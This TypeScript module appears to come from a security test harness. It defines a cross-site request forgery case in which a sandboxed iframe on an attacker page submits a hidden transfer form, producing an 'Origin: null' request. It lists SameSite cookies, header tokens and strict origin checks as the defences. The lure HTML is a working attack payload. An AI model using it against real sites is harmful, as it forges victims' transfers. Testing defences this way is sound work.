// Threat: another site posts a form out of a sandboxed frame into a new window, so that the request has the origin "null" and no referrer.
// The attacker has a site and one click of the victim. Expected: as a plain form; a server that trusts a missing or null Origin is fooled.
import { stopped, succeeded, type Attack } from '../attack.ts'
import { APP, EVIL } from '../world/hosts.ts'

const page: NonNullable<Attack['lure']> = (_, app, { email }) => `<!doctype html>
<iframe sandbox="allow-forms allow-popups" srcdoc="<form action='${app}/api/transfer' method='post' target='_blank'>
<input name='to' value='${email}'><button>Win</button></form>"></iframe>`

export const formSandboxed: Attack = {
  name: 'form-sandboxed',
  group: 'other sites',
  title: 'The same out of a sandboxed frame (Origin: null)',
  what: 'The form stands in a sandboxed frame and opens a new window when the victim clicks, so that the request does not say where it comes from.',
  why: 'As above; and who checks the Origin header must know that “null” is not “absent”.',
  stops: 'SameSite written out, a token in a header, or refusing every origin but one’s own, “null” included.',
  lure: page,
  control: 'session',
  succeedsOn: ['session', 'readable-cookie', 'httponly-cookie'],
  async run(scene) {
    await scene.signIn()
    await scene.thief.publish({ address: `${EVIL}/prize`, body: page('evil', APP, scene.attacker) })
    const lure = await scene.browser.newPage()
    await lure.goto(`${EVIL}/prize`)
    const arrived = scene.arrival('POST', '/api/transfer')
    await lure.frameLocator('iframe').locator('button').click()
    await arrived
    return scene.ledger.find({ deed: 'transfer', by: scene.victim.email }).length > 0
      ? succeeded('the server counted a transfer from the victim to the attacker')
      : stopped('the form arrived, and the server counted no transfer')
  },
}
